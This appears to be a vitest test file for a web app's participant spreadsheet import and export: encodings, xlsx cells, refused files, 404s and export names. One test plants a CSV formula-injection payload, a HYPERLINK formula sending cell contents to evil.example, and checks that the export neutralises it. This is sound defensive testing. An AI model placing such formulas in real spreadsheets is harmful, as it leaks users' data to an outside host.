// Reading and writing participant spreadsheets (docs/rules.md#participant-import): the encodings,
// separators and cell types people's files come in, the files that are refused, and the names
// and cells of the files the app writes.
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { addParticipant, call, makeProject, makeUser, signedIn } from '../../test/factories.ts';
import { createTestApp, type TestApp } from '../../test/harness.ts';
import { csvText, gridOf, importBody, parseFile, previewImport, xlsxFile } from '../../test/import-factories.ts';

let app: TestApp;
let admin: { cookie: string };
beforeAll(async () => {
  app = await createTestApp();
  admin = await signedIn(app, 'admin');
});
afterAll(() => app.dispose());

const codeOf = async (res: ReturnType<typeof parseFile>) => (await res).json().error.code;

describe('reading', () => {
  it('reads UTF-8 without a BOM, separated by semicolons, with quoted separators and line breaks', async () => {
    const project = await makeProject(app);
    const text = csvText(
      [
        ['Email', 'Full name', 'Type', 'Products'],
        ['ann@example.test', 'Ann; Lee', 'Buyer', 'Tea\nCoffee'],
      ],
      ';',
    );
    const g = await gridOf(app, admin.cookie, project.id, Buffer.from(text, 'utf8'));
    expect(g.columns).toEqual(['email', 'full_name', 'role', 'product_categories']);
    expect(g.rows).toEqual([['ann@example.test', 'Ann; Lee', 'Buyer', 'Tea\nCoffee']]);
  });

  it("reads Excel's Unicode Text: UTF-16 with a BOM, separated by tabs", async () => {
    const project = await makeProject(app);
    const text = csvText(
      [
        ['メールアドレス', '氏名', '区分', '会社名'],
        ['sato@example.jp', '佐藤 花子', 'バイヤー', '東京商事'],
      ],
      '\t',
    );
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const res = await parseFile(app, admin.cookie, project.id, bytes, {
      name: '参加者.txt',
      type: 'text/plain',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().columns).toEqual(['email', 'full_name', 'role', 'company_name']);
    expect(res.json().rows).toEqual([['sato@example.jp', '佐藤 花子', 'バイヤー', '東京商事']]);
  });

  it('reads .xlsx cells as they show: Korean text, dates, formula results, links, numbers without float noise', async () => {
    const project = await makeProject(app);
    const bytes = xlsxFile(
      [
        ['이메일', '성명', '역할', '홈페이지', '전화번호', '등록일', '점수'],
        [
          'kim@example.kr',
          '김민지',
          '셀러',
          { t: 's', v: 'www.seoul.example', l: { Target: 'https://www.seoul.example' } },
          { t: 'n', v: 1012345678, f: '1012345670+8' },
          new Date(Date.UTC(2026, 4, 1)),
          0.1 + 0.2,
        ],
        [],
        ['park@example.kr', '박서준', '바이어', '', '', '', ''],
      ],
      '참가자',
    );
    const res = await parseFile(app, admin.cookie, project.id, bytes, {
      name: '참가자 명단.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().columns).toEqual(['email', 'full_name', 'role', 'website', 'phone', null, null]);
    expect(res.json().rows).toEqual([
      ['kim@example.kr', '김민지', '셀러', 'www.seoul.example', '1012345678', '2026-05-01', '0.3'],
      ['park@example.kr', '박서준', '바이어', '', '', '', ''],
    ]);
  });

  it('recognises .xlsx by its bytes whatever the name says', async () => {
    const project = await makeProject(app);
    const bytes = xlsxFile([['E-mail'], ['a@example.test']]);
    const g = await parseFile(app, admin.cookie, project.id, bytes, { name: 'export.csv', type: 'text/csv' });
    expect(g.json().rows).toEqual([['a@example.test']]);
  });
});

describe('refusals', () => {
  it('refuses files that are not spreadsheets it reads, with import_file_unreadable', async () => {
    const project = await makeProject(app);
    const send = (bytes: Buffer, name: string) => codeOf(parseFile(app, admin.cookie, project.id, bytes, { name }));
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['E-mail'], ['a@example.test']]), 'S');
    const xls = XLSX.write(book, { type: 'buffer', bookType: 'xls' }) as Buffer;
    expect(await send(xls, 'old.xls')).toBe('import_file_unreadable');
    const docx = new JSZip();
    docx.file('word/document.xml', '<w:document/>');
    expect(await send(await docx.generateAsync({ type: 'nodebuffer' }), 'letter.docx')).toBe('import_file_unreadable');
    expect(await send(Buffer.from('E-mail\na@example.test'), 'people.xlsx')).toBe('import_file_unreadable');
    expect(await send(Buffer.from([0x25, 0x50, 0x44, 0x46, 0, 1, 2, 3]), 'scan.pdf')).toBe('import_file_unreadable');
  });

  it('refuses too many columns and files without rows', async () => {
    const project = await makeProject(app);
    const wide = csvText([Array.from({ length: 61 }, (_, i) => `C${i}`), ['x']]);
    expect(await codeOf(parseFile(app, admin.cookie, project.id, Buffer.from(wide)))).toBe('import_too_many_columns');
    expect(await codeOf(parseFile(app, admin.cookie, project.id, Buffer.from('')))).toBe('import_file_empty');
    expect(await codeOf(parseFile(app, admin.cookie, project.id, xlsxFile([['E-mail']])))).toBe('import_file_empty');
  });

  it('answers 404 for a project that does not exist, on every route', async () => {
    const missing = '00000000-0000-4000-8000-000000000000';
    const body = { headers: ['E-mail'], columns: ['email'], rows: [['a@example.test']], default_role: 'buyer' };
    const answers = [
      (await parseFile(app, admin.cookie, missing, Buffer.from('E-mail\na@example.test'))).statusCode,
      (await call(app, 'POST', `/api/projects/${missing}/import/preview`, { cookie: admin.cookie, body })).statusCode,
      (await call(app, 'POST', `/api/projects/${missing}/import/apply`, { cookie: admin.cookie, body })).statusCode,
      (await call(app, 'GET', `/api/projects/${missing}/participants/export`, { cookie: admin.cookie })).statusCode,
    ];
    expect(answers).toEqual([404, 404, 404, 404]);
  });
});

describe('files the app writes', () => {
  it("names the export after the project, in UTF-8 too, and the template's CSV imports as it is", async () => {
    const project = await makeProject(app, { name: '부산 국제 식품전 2026' });
    const res = await call(app, 'GET', `/api/projects/${project.id}/participants/export?format=csv`, {
      cookie: admin.cookie,
    });
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="2026-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toMatch(/^부산 국제 식품전 2026-[\d-]+\.csv$/);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));

    const template = await call(app, 'GET', '/api/projects/import/template?format=csv', { cookie: admin.cookie });
    const g = await gridOf(app, admin.cookie, project.id, template.rawPayload);
    expect((await previewImport(app, admin.cookie, project.id, importBody(g))).summary).toMatchObject({
      create: 2,
      error: 0,
    });
  });

  it('keeps Excel from running cells of a CSV export as formulas, and reads them back unchanged', async () => {
    const project = await makeProject(app);
    const evil = await makeUser(app, {
      role: 'buyer',
      fullName: '=HYPERLINK("https://evil.example/?"&A2,"Open")',
      companyName: '@SUM(1+1)',
      fields: { phone: '+82 2 6000 0100' },
    });
    await addParticipant(app, project.id, evil.profile);
    const res = await call(app, 'GET', `/api/projects/${project.id}/participants/export?format=csv`, {
      cookie: admin.cookie,
    });
    const text = res.rawPayload.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""Open"")"`);
    expect(text).toContain(`'@SUM(1+1)`);
    // A phone number is no formula: it stays as it is.
    expect(text).toContain(',+82 2 6000 0100,');
    const g = await gridOf(app, admin.cookie, project.id, res.rawPayload);
    expect(g.rows[0].slice(0, 2)).toEqual([evil.email, '=HYPERLINK("https://evil.example/?"&A2,"Open")']);
    expect((await previewImport(app, admin.cookie, project.id, importBody(g))).summary).toMatchObject({
      unchanged: 1,
    });
  });
});
